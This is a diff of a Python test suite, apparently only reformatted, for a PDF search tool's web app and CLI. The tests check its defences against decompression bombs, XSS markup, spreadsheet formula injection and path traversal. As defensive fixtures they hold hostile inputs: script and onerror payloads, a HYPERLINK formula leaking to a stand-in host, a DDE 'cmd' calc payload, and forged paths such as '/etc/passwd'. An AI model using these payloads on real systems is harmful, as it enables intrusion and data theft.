@@ -158,7 +158,9 @@ def test_a_decompression_bomb_meets_the_memory_cap(tmp_path: Path) -> None:
     assert result["outcomes"]["indexed"] == 2  # the same worker read the files after the bombs
     assert result["worker_peak_mb"] <= cap, result
     assert took < 60
-    print(f"\nbombs: {failures} in {took:.1f} s; the worker peaked at {result['worker_peak_mb']} MB under a {cap} MB cap")
+    print(
+        f"\nbombs: {failures} in {took:.1f} s; the worker peaked at {result['worker_peak_mb']} MB under a {cap} MB cap"
+    )
 
 
 def test_workers_that_die_are_replaced_and_the_run_goes_on(tmp_path: Path) -> None:
@@ -193,8 +195,13 @@ def test_workers_that_die_are_replaced_and_the_run_goes_on(tmp_path: Path) -> No
 
 SCRIPT = "<script>alert(1)</script>"
 IMG = "<img src=x onerror=alert(2)>"
-RAW_MARKUP = ("<script>alert", "<img src=x", "<svg onload", "<a href=\"javascript", "href=\"javascript")
-FORMULAS = ['=HYPERLINK("http://example.invalid/?leak","click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 cmd", "-2+3 cmd"]
+RAW_MARKUP = ("<script>alert", "<img src=x", "<svg onload", '<a href="javascript', 'href="javascript')
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak","click me")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1 cmd",
+    "-2+3 cmd",
+]
 
 
 def build_hostile_index(root: Path) -> tuple[Path, Path]:
@@ -264,7 +271,9 @@ def test_markup_in_a_pdf_is_text_on_every_page(hostile: tuple[Path, Path], hosti
     with Archive(hostile[0]) as archive:
         title = archive.documents[doc_id]["meta"]["title"]
     if SCRIPT in title:
-        assert "&lt;script&gt;alert(1)&lt;/script&gt; Review of Child M" in hostile_client.get(f"/documents/{doc_id}").get_data(as_text=True)
+        assert "&lt;script&gt;alert(1)&lt;/script&gt; Review of Child M" in hostile_client.get(
+            f"/documents/{doc_id}"
+        ).get_data(as_text=True)
 
 
 def test_exports_keep_markup_as_data_and_neutralise_formulas(hostile: tuple[Path, Path], hostile_client) -> None:  # type: ignore[no-untyped-def]
@@ -279,7 +288,9 @@ def test_exports_keep_markup_as_data_and_neutralise_formulas(hostile: tuple[Path
         assert response.status_code == 200 and response.mimetype != "text/html"
     # CSV from the page and from the command line: formulas at the start of a cell are quoted.
     web_csv = hostile_client.get("/export.csv?q=spreadsheet&per_doc=0").get_data(as_text=True)
-    cli = CliRunner().invoke(main, ["search", "spreadsheet", "--index", str(hostile[0]), "--format", "csv", "--per-doc", "0"])
+    cli = CliRunner().invoke(
+        main, ["search", "spreadsheet", "--index", str(hostile[0]), "--format", "csv", "--per-doc", "0"]
+    )
     assert cli.exit_code == 0
     for text in (web_csv, cli.stdout):
         rows = list(csv.DictReader(io.StringIO(text)))
@@ -385,7 +396,9 @@ def test_hypothesis_examples_ran() -> None:
     print(f"\nhypothesis: {ran['cli']} CLI and {ran['web']} page queries; slowest {ran['slowest']:.2f} s")
 
 
-EXPANSION_MESSAGE = f"the query matches more than {MAX_EXPANSION} different words (a short prefix with *?) — make it more specific"
+EXPANSION_MESSAGE = (
+    f"the query matches more than {MAX_EXPANSION} different words (a short prefix with *?) — make it more specific"
+)
 
 
 @pytest.mark.parametrize("q", ["zqx*", "zqxb* OR zqxc* OR zqxd* OR zqxf* OR zqxg*", "neglect AND (zqx* OR health)"])
@@ -402,7 +415,9 @@ def test_a_query_expanding_to_too_many_words_is_refused(query_index: Path, web_c
 
 
 def test_a_prefix_within_the_limit_is_searched(query_index: Path) -> None:
-    result = _timed(lambda: CliRunner().invoke(main, ["search", "zqxb*", "--index", str(query_index), "--format", "json"]))
+    result = _timed(
+        lambda: CliRunner().invoke(main, ["search", "zqxb*", "--index", str(query_index), "--format", "json"])
+    )
     assert result.exit_code == 0, result.output
     assert json.loads(result.output)["total"] > 0
 
@@ -496,7 +511,9 @@ def test_traversal_in_any_spelling_is_a_404_over_real_http(server, hostile: tupl
     print(f"\ntraversal: {len(paths)} paths, status codes {sorted(set(codes.values()))}")
 
 
-def test_only_indexed_documents_are_served_even_from_a_tampered_index(hostile: tuple[Path, Path], tmp_path: Path) -> None:
+def test_only_indexed_documents_are_served_even_from_a_tampered_index(
+    hostile: tuple[Path, Path], tmp_path: Path
+) -> None:
     """Files that were not indexed have no PDF to open; and records pointing outside the
     documents folder (a tampered or foreign index) are refused, not followed."""
     import shutil
@@ -509,11 +526,18 @@ def test_only_indexed_documents_are_served_even_from_a_tampered_index(hostile: t
     with Archive(index) as archive:
         template = next(r for r in archive.files.values() if r["outcome"] == "indexed")
     ix = whoosh_index.open_dir(str(index))
-    forged = {"../outside.pdf": "f0" * 8, str(outside): "f1" * 8, "/etc/passwd": "f2" * 8, "pdfs/../../outside.pdf": "f3" * 8}
+    forged = {
+        "../outside.pdf": "f0" * 8,
+        str(outside): "f1" * 8,
+        "/etc/passwd": "f2" * 8,
+        "pdfs/../../outside.pdf": "f3" * 8,
+    }
     with ix.writer() as writer:
         for path, doc_id in forged.items():
             writer.update_document(key=file_key(path), kind=FILE, data=template | {"path": path, "doc_id": doc_id})
-            writer.add_document(key=f"{doc_id}-0", kind=PASSAGE, doc_id=doc_id, page=1, position=0, text="forged", review_type="other")
+            writer.add_document(
+                key=f"{doc_id}-0", kind=PASSAGE, doc_id=doc_id, page=1, position=0, text="forged", review_type="other"
+            )
     ix.close()
     client = create_app(index, hostile[1]).test_client()
     with Archive(index) as archive:
